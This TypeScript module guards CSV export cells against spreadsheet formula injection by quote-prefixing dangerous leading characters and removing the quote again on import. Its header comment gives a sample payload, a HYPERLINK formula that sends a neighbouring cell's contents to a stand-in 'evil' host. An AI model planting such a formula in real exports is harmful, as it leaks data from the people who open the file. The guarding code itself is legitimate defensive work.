// CSV formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with
// = + - @ (and, after stripping it, tab or CR) as a formula — a customer named
// =HYPERLINK("http://evil…"&F3,"点击") would run in the Excel of whoever opens the export.
// Every exported cell goes through guardCell, which prefixes such a cell with a single quote, as
// OWASP advises; the importer (lib/import/parse.ts) takes the quote off again with unguardCell,
// so an export re-imports to the same data. A value that itself starts with quotes before one of
// those characters gets one more quote, so the round trip is exact for every string.

const DANGEROUS = /^'*[=+\-@\t\r]/;
// The export's own form for long digit strings (customers-csv.ts asText): a tab before a phone
// or id keeps Excel from turning it into 1.38001E+10. Digits cannot compute anything.
const TAB_DIGITS = /^\t\+?\d[\d ]*$/;

export function guardCell(value: string): string {
  return DANGEROUS.test(value) && !TAB_DIGITS.test(value) ? `'${value}` : value;
}

export function unguardCell(value: string): string {
  return /^'+[=+\-@\t\r]/.test(value) ? value.slice(1) : value;
}

export const guardRow = (row: string[]): string[] => row.map(guardCell);
